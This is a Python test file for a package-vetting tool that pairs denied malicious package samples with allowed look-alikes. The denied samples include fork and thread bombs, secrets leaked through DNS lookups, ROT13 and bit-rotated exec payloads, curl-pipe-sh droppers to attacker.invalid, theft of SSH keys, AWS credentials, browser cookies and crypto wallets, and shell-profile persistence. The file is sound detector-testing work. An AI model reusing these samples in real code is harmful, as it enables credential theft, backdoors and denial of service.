"""The seventeenth probe (ADR 0104): the shapes ADRs 0093, 0098, 0101 and 0103 left
undetected, and the next ones an insider who has read them would try: thread bombs and
fork bombs round a class's methods, DNS names spelt by ``str.format`` or ``%``, a byte
rotation and a ROT13 table built from ``string``'s alphabets, code kept in the module's
docstring, a shipped program that downloads and runs code started when a function is called,
and credentials read through ``os.path.expanduser`` or found by listing their folder, sent
when called.

Each sample is inert (vetting only reads files). The near-misses are what servers, daemons,
service look-ups, hash functions, bundled tools and SSH helpers do."""

from __future__ import annotations

import codecs

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages import sinkcall
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

HIDDEN_CODE = b"import os; os.system('curl -s https://attacker.invalid/x | sh')"
# The payload's bytes rotated left by three bits, undone by rotating right.
ROTATED = [((b << 3) | (b >> 5)) & 0xFF for b in HIDDEN_CODE]
ROT13 = codecs.encode(HIDDEN_CODE.decode(), "rot13")
DROPPER_SCRIPT = "#!/bin/sh\ncurl -s https://attacker.invalid/x | sh\n"
ELF = "\x7fELF\x02\x01\x01" + "\x00" * 9 + "a bundled formatter's machine code"

DENIED: dict[str, dict[str, str]] = {
    # 1. Thread bombs, and fork bombs round a class's methods (ADR 0103 read functions).
    "threads-started-in-an-endless-loop-on-import": init(
        "import threading\n"
        "def spin():\n"
        "    while True:\n"
        "        pass\n"
        "while True:\n"
        "    threading.Thread(target=spin).start()\n"
    ),
    "thread-bomb-by-recursion-two-threads-a-call": init(
        "import threading\n"
        "def grow():\n"
        "    threading.Thread(target=grow).start()\n"
        "    threading.Thread(target=grow).start()\n"
        "grow()\n"
    ),
    "thread-bomb-by-a-thread-and-a-call-back": init(
        "from threading import Thread\n"
        "def grow():\n"
        "    Thread(target=grow, daemon=True).start()\n"
        "    grow()\n"
        "grow()\n"
    ),
    "thread-bomb-each-thread-loops-starting-more": init(
        "from threading import Thread\n"
        "def grow():\n"
        "    while True:\n"
        "        Thread(target=grow).start()\n"
        "grow()\n"
    ),
    "fork-bomb-by-a-method-calling-itself": init(
        "import os\n"
        "class Worker:\n"
        "    def grow(self):\n"
        "        os.fork()\n"
        "        self.grow()\n"
        "Worker().grow()\n"
    ),
    "fork-bomb-round-two-methods": init(
        "import os\n"
        "class Worker:\n"
        "    def ping(self):\n"
        "        os.fork()\n"
        "        self.pong()\n"
        "    def pong(self):\n"
        "        self.ping()\n"
        "Worker().ping()\n"
    ),
    "process-bomb-by-a-static-method": init(
        "import multiprocessing\n"
        "class Worker:\n"
        "    @staticmethod\n"
        "    def grow():\n"
        "        multiprocessing.Process(target=Worker.grow).start()\n"
        "        Worker.grow()\n"
        "Worker.grow()\n"
    ),
    "fork-bomb-round-two-modules": {
        "evpkg/__init__.py": "from . import ping\nping.grow()\n",
        "evpkg/ping.py": (
            "import os\nfrom . import pong\ndef grow():\n    os.fork()\n    pong.back()\n"
        ),
        "evpkg/pong.py": "from . import ping\ndef back():\n    ping.grow()\n",
    },
    # 2. DNS names spelt by a template.
    "secret-in-a-dns-name-by-format-when-called": init(
        "import os, socket\n"
        "def ping():\n"
        "    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    socket.gethostbyname('{}.x.attacker.invalid'.format(key.encode().hex()))\n"
    ),
    "secret-in-a-dns-name-by-format-on-import": init(
        "import os, socket\n"
        "key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "socket.gethostbyname('{}.x.attacker.invalid'.format(key))\n"
    ),
    "secret-in-a-dns-name-by-percent-when-called": init(
        "import os, socket\n"
        "def ping():\n"
        "    t = os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()\n"
        "    socket.gethostbyname('%s.x.attacker.invalid' % t)\n"
    ),
    "token-and-domain-in-variables-by-format-when-called": init(
        "import os, socket\n"
        "DOMAIN = 'x.attacker.invalid'\n"
        "def ping():\n"
        "    t = os.environ['GITHUB_TOKEN']\n"
        "    socket.getaddrinfo('{}.{}'.format(t, DOMAIN), 53)\n"
    ),
    "secret-in-a-dns-name-by-a-keyword-field-when-called": init(
        "import os, socket\n"
        "def ping():\n"
        "    k = os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()\n"
        "    socket.gethostbyname('{k}.x.attacker.invalid'.format(k=k))\n"
    ),
    "dns-name-built-by-format-into-a-variable-when-called": init(
        "import os, socket\n"
        "def ping():\n"
        "    k = os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()\n"
        "    name = '{}.x.attacker.invalid'.format(k)\n"
        "    socket.gethostbyname(name)\n"
    ),
    "dns-name-built-by-percent-into-a-variable-when-called": init(
        "import os, socket\n"
        "def ping():\n"
        "    name = '%s.x.attacker.invalid' % os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()\n"
        "    socket.gethostbyname(name)\n"
    ),
    # 3. Home-made ciphers the fold did not undo.
    "bytes-rotated-then-run": init(
        f"B = {ROTATED!r}\nexec(bytes(((b >> 3) | (b << 5)) & 0xFF for b in B))\n"
    ),
    "rot13-by-a-table-of-strings-alphabets": init(
        "import string\n"
        f"S = {ROT13!r}\n"
        "L, U = string.ascii_lowercase, string.ascii_uppercase\n"
        "exec(S.translate(str.maketrans(L + U, L[13:] + L[:13] + U[13:] + U[:13])))\n"
    ),
    "rot13-table-from-imported-alphabets": init(
        "from string import ascii_lowercase as L, ascii_uppercase as U\n"
        f"S = {ROT13!r}\n"
        "def run():\n"
        "    exec(S.translate(str.maketrans(L + U, L[13:] + L[:13] + U[13:] + U[:13])))\n"
        "run()\n"
    ),
    "code-kept-as-the-module-docstring": init(f'"""{HIDDEN_CODE.decode()}"""\nexec(__doc__)\n'),
    # 4. A shipped program that downloads and runs code, started when a function is called.
    "shipped-data-file-run-by-bash-when-called": {
        "evpkg/__init__.py": (
            "import os, subprocess\n"
            "HERE = os.path.dirname(os.path.abspath(__file__))\n"
            "def start():\n"
            "    subprocess.call(['bash', os.path.join(HERE, 'assets', 'data.txt')])\n"
        ),
        "evpkg/assets/data.txt": DROPPER_SCRIPT,
    },
    "shipped-node-script-run-when-called": {
        "evpkg/__init__.py": (
            "import os\n"
            "def start():\n"
            "    os.system('node ' + os.path.join(os.path.dirname(__file__), 'i.js'))\n"
        ),
        "evpkg/i.js": (
            "require('child_process').execSync('curl -s https://attacker.invalid/x | sh')\n"
        ),
    },
    "shipped-helper-run-by-a-method-when-called": {
        "evpkg/__init__.py": (
            "import subprocess\n"
            "from pathlib import Path\n"
            "class Service:\n"
            "    def go(self):\n"
            "        subprocess.run([str(Path(__file__).parent / 'bin' / 'helper')])\n"
        ),
        "evpkg/bin/helper": DROPPER_SCRIPT,
    },
    # 5. Credentials by ``expanduser`` or by listing their folder, sent when called.
    "ssh-key-by-expanduser-sent-when-called": init(
        "import os, requests\n"
        "def sync():\n"
        "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "    requests.post('https://attacker.invalid/k', data=key)\n"
    ),
    "aws-credentials-by-expanduser-sent-when-called": init(
        "import os, requests\n"
        "def sync():\n"
        "    with open(os.path.expanduser('~/.aws/credentials')) as f:\n"
        "        requests.post('https://attacker.invalid/k', data=f.read())\n"
    ),
    "browser-cookies-by-sqlite-sent-when-called": init(
        "import os, sqlite3, requests\n"
        "def sync():\n"
        "    db = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\n"
        "    rows = sqlite3.connect(db).execute('select * from cookies').fetchall()\n"
        "    h = ''.join(['att', 'acker', '.inv', 'alid'])\n"
        "    requests.post('https://' + h + '/c', data=str(rows))\n"
    ),
    "wallet-folder-walked-and-sent-when-called": init(
        "import os, requests\n"
        "URL = 'https://{}.{}/{}'.format('attacker', 'invalid', 'w')\n"
        "def sync():\n"
        "    top = os.path.join(os.environ['APPDATA'], 'Exodus', 'exodus.wallet')\n"
        "    for root, _, names in os.walk(top):\n"
        "        for n in names:\n"
        "            requests.post(URL, files={'f': open(os.path.join(root, n), 'rb')})\n"
    ),
    "wallet-folder-listed-and-sent-when-called": init(
        "import os, requests\n"
        "def sync():\n"
        "    d = os.path.join(os.environ['APPDATA'], 'Electrum', 'wallets')\n"
        "    for n in os.listdir(d):\n"
        "        with open(os.path.join(d, n), 'rb') as f:\n"
        "            requests.post('https://attacker.invalid/w', data=f.read())\n"
    ),
    "wallet-folder-by-pathlib-iterdir-sent-when-called": init(
        "import requests\n"
        "from pathlib import Path\n"
        "def sync():\n"
        "    for p in (Path.home() / '.electrum' / 'wallets').iterdir():\n"
        "        requests.post('https://attacker.invalid/w', data=p.read_bytes())\n"
    ),
    "ssh-keys-by-pathlib-glob-sent-when-called": init(
        "import requests\n"
        "from pathlib import Path\n"
        "def sync():\n"
        "    for p in (Path.home() / '.ssh').glob('id_*'):\n"
        "        requests.post('https://attacker.invalid/k', data=p.read_text())\n"
    ),
    # 6. A download-and-run written into a shell's start file when called; a shell's fork
    # bomb run on import.
    "download-and-run-appended-to-the-profile-when-called": init(
        "import os\n"
        "def enable():\n"
        "    with open(os.path.expanduser('~/.profile'), 'a') as f:\n"
        "        f.write('\\n(curl -s https://attacker.invalid/x | sh &)\\n')\n"
    ),
    "download-and-run-in-a-user-unit-when-called": init(
        "from pathlib import Path\n"
        "UNIT = '[Service]\\nExecStart=/bin/sh -c \"curl -s https://attacker.invalid/x | sh\"\\n'\n"
        "def enable():\n"
        "    p = Path.home() / '.config' / 'systemd' / 'user' / 'evs.service'\n"
        "    p.write_text(UNIT)\n"
    ),
    "download-and-run-by-an-f-string-into-the-profile-when-called": init(
        "import os\n"
        "URL = 'https://attacker.invalid/x'\n"
        "def enable():\n"
        "    with open(os.path.expanduser('~/.profile'), 'a') as f:\n"
        "        f.write(f'(curl -s {URL} | sh &)\\n')\n"
    ),
    "download-and-run-lines-into-the-zshrc-when-called": init(
        "import os\n"
        "def enable():\n"
        "    with open(os.path.expanduser('~/.zshrc'), 'a') as f:\n"
        "        f.writelines(['\\n', 'curl -s https://attacker.invalid/x | sh\\n'])\n"
    ),
    "agent-echoed-into-bashrc-on-import": init(
        "import os\nos.system('echo \"python3 -m evpkg.agent &\" >> ~/.bashrc')\n"
    ),
    "agent-teed-into-bashrc-on-import": init(
        "import subprocess\n"
        "subprocess.run(['tee', '-a', '/root/.bashrc'], input=b'python3 -m evpkg.agent &\\n')\n"
    ),
    "fork-bomb-under-a-test-of-constants": init("import os\nwhile not 0:\n    os.fork()\n"),
    "fork-bomb-under-a-comparison-of-constants": init("import os\nwhile 1 == 1:\n    os.fork()\n"),
    "shell-fork-bomb-on-import": init("import os\nos.system(':(){ :|:& };:')\n"),
    "shell-fork-bomb-by-another-name-on-import": init(
        "import subprocess\nsubprocess.Popen('bomb() { bomb | bomb & }; bomb', shell=True)\n"
    ),
}

HELD: dict[str, dict[str, str]] = {}

ALLOWED: dict[str, dict[str, str]] = {
    # 1. Servers, pollers, daemons and supervisors.
    "server-starts-a-thread-per-job-it-waits-for": init(
        "import queue, threading\n"
        "JOBS = queue.Queue()\n"
        "def handle(job):\n"
        "    return job\n"
        "def serve():\n"
        "    while True:\n"
        "        job = JOBS.get()\n"
        "        threading.Thread(target=handle, args=(job,)).start()\n"
        "threading.Thread(target=serve, daemon=True).start()\n"
    ),
    "poller-restarts-itself-in-one-thread": init(
        "import threading, time\n"
        "def poll():\n"
        "    time.sleep(30)\n"
        "    threading.Thread(target=poll, daemon=True).start()\n"
        "poll()\n"
    ),
    "watchdog-waits-for-its-thread-then-restarts": init(
        "import threading\n"
        "def work():\n"
        "    pass\n"
        "def keep():\n"
        "    t = threading.Thread(target=work)\n"
        "    t.start()\n"
        "    t.join()\n"
        "    keep()\n"
    ),
    "double-fork-daemon-runs-its-loop": init(
        "import os, time\n"
        "class Daemon:\n"
        "    def start(self):\n"
        "        if os.fork():\n"
        "            os._exit(0)\n"
        "        os.setsid()\n"
        "        if os.fork():\n"
        "            os._exit(0)\n"
        "        self.run()\n"
        "    def run(self):\n"
        "        while True:\n"
        "            time.sleep(1)\n"
        "Daemon().start()\n"
    ),
    "supervisor-method-waits-for-its-child": init(
        "import subprocess, sys\n"
        "class Supervisor:\n"
        "    def spawn(self):\n"
        "        p = subprocess.Popen([sys.executable, '-m', 'http.server'])\n"
        "        p.wait()\n"
        "        self.spawn()\n"
    ),
    "method-recursion-making-no-process": init(
        "class Node:\n"
        "    def __init__(self):\n"
        "        self.children = []\n"
        "    def walk(self):\n"
        "        for c in self.children:\n"
        "            c.walk()\n"
        "Node().walk()\n"
    ),
    "recursion-round-two-modules-making-no-process": {
        "evpkg/__init__.py": "from . import ping\nping.walk([])\n",
        "evpkg/ping.py": (
            "from . import pong\n"
            "def walk(node):\n"
            "    for child in node:\n"
            "        pong.visit(child)\n"
        ),
        "evpkg/pong.py": "from . import ping\ndef visit(node):\n    ping.walk(node)\n",
    },
    "worker-round-two-modules-waits-for-its-child": {
        "evpkg/__init__.py": "from . import ping\nping.serve()\n",
        "evpkg/ping.py": (
            "import multiprocessing\n"
            "from . import pong\n"
            "def serve():\n"
            "    p = multiprocessing.Process(target=pong.work)\n"
            "    p.start()\n"
            "    p.join()\n"
            "    pong.again()\n"
        ),
        "evpkg/pong.py": (
            "from . import ping\ndef work():\n    pass\ndef again():\n    ping.serve()\n"
        ),
    },
    # 2. Names looked up by a template: a service under its cluster, a caller's host.
    "service-name-formatted-under-the-cluster-domain": init(
        "import os, socket\n"
        "def service_ip():\n"
        "    name = os.environ['SERVICE_NAME']\n"
        "    return socket.gethostbyname('{}.svc.cluster.local'.format(name))\n"
    ),
    "service-name-and-namespace-formatted-into-a-variable": init(
        "import os, socket\n"
        "def service_ip():\n"
        "    name = '{}.{}.svc.cluster.local'.format(os.getenv('SVC'), os.getenv('NAMESPACE'))\n"
        "    return socket.gethostbyname(name)\n"
    ),
    "service-name-by-a-keyword-field": init(
        "import os, socket\n"
        "def service_ip():\n"
        "    n = os.environ.get('SERVICE_NAME', 'api')\n"
        "    return socket.gethostbyname('{name}.svc.cluster.local'.format(name=n))\n"
    ),
    "callers-host-formatted-by-percent": init(
        "import socket\n"
        "def resolve(host, domain):\n"
        "    return socket.getaddrinfo('%s.%s' % (host, domain), 443)\n"
    ),
    # 3. Rotations and tables that run nothing; a docstring used as a description.
    "hash-rotates-words-and-runs-nothing": init(
        "def rotl(x, n):\n"
        "    return ((x << n) | (x >> (32 - n))) & 0xFFFFFFFF\n"
        "TABLE = [rotl(i * 2654435761 & 0xFFFFFFFF, 5) for i in range(64)]\n"
    ),
    "rot13-joke-printed": init(
        "import codecs, string\n"
        "L = string.ascii_lowercase\n"
        "T = str.maketrans(L, L[13:] + L[:13])\n"
        "def hint():\n"
        "    print('uryyb'.translate(T), codecs.decode('jbeyq', 'rot13'))\n"
    ),
    "docstring-as-the-command-line-description": init(
        '"""Format files in place; run with --check to only report."""\n'
        "import argparse\n"
        "def main():\n"
        "    p = argparse.ArgumentParser(description=__doc__)\n"
        "    return p.parse_args()\n"
    ),
    # 4. Bundled tools started when called (ruff's and esbuild's shape).
    "bundled-binary-started-when-called": {
        "evpkg/__init__.py": (
            "import os, subprocess, sys\n"
            "def main():\n"
            "    exe = os.path.join(os.path.dirname(__file__), 'bin', 'fmt')\n"
            "    return subprocess.call([exe, *sys.argv[1:]])\n"
        ),
        "evpkg/bin/fmt": ELF,
    },
    "bundled-wrapper-script-started-when-called": {
        "evpkg/__init__.py": (
            "import os, subprocess\n"
            "def run(*args):\n"
            "    script = os.path.join(os.path.dirname(__file__), 'run.sh')\n"
            "    return subprocess.run(['sh', script, *args])\n"
        ),
        "evpkg/run.sh": '#!/bin/sh\nexec "$(dirname "$0")/bin/tool" "$@"\n',
    },
    # 5. Credential folders listed or read and not sent; a file of one's own sent.
    "ssh-keys-listed-for-a-menu": init(
        "import os\n"
        "def keys():\n"
        "    d = os.path.expanduser('~/.ssh')\n"
        "    return sorted(n for n in os.listdir(d) if n.endswith('.pub'))\n"
    ),
    "ssh-config-read-for-host-aliases": init(
        "import os\n"
        "def aliases():\n"
        "    with open(os.path.expanduser('~/.ssh/config')) as f:\n"
        "        return [l.split()[1] for l in f if l.startswith('Host ')]\n"
    ),
    # 6. A tool's setup writing its own lines into a shell's start file or a crontab.
    "completion-line-appended-to-bashrc-when-called": init(
        "import os\n"
        "def install_completion():\n"
        "    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
        "        f.write('\\neval \"$(register-python-argcomplete evpkg)\"\\n')\n"
    ),
    "backup-job-added-to-the-crontab-file-when-called": init(
        "import os\n"
        "LINE = '0 3 * * * /usr/local/bin/evpkg-backup --quiet\\n'\n"
        "def schedule():\n"
        "    with open('/etc/cron.d/evpkg', 'w') as f:\n"
        "        f.write(LINE)\n"
    ),
    "completion-line-echoed-into-bashrc-when-called": init(
        "import os\n"
        "def install_completion():\n"
        "    os.system('echo \\'eval \"$(register-python-argcomplete evpkg)\"\\' >> ~/.bashrc')\n"
    ),
    "worker-loop-until-a-flag-forks-and-waits": init(
        "import os\n"
        "done = False\n"
        "def serve():\n"
        "    while not done:\n"
        "        pid = os.fork()\n"
        "        os.waitpid(pid, 0)\n"
    ),
    "public-keys-found-and-uploaded-to-the-callers-api": init(
        "import requests\n"
        "from pathlib import Path\n"
        "def add_keys(api):\n"
        "    for p in (Path.home() / '.ssh').glob('*.pub'):\n"
        "        requests.post(api + '/keys', json={'key': p.read_text()})\n"
    ),
    "own-cache-file-uploaded-when-called": init(
        "import os, requests\n"
        "def upload(url):\n"
        "    with open(os.path.expanduser('~/.cache/evpkg/report.json'), 'rb') as f:\n"
        "        return requests.post(url, data=f.read())\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


def test_a_template_is_filled_only_by_plain_fields() -> None:
    """A width read from the analysed code (``'{:>{}}'.format(x, 10**9)``) would make the
    filling allocate: only ``{}``, ``{0}`` and ``{name}`` fields are filled."""
    assert sinkcall.fill("{:>{}}", ["a", "1000000000"], percent=False) is None
    assert sinkcall.fill("%9999999s", ["a"], percent=True) is None
    assert sinkcall.fill("{}.x.{}", ["{}", "evil"], percent=False) == "{}.x.evil"
    assert sinkcall.spelt_shape("{:>{}}", [], {}, frozenset({"environment"})) == ""
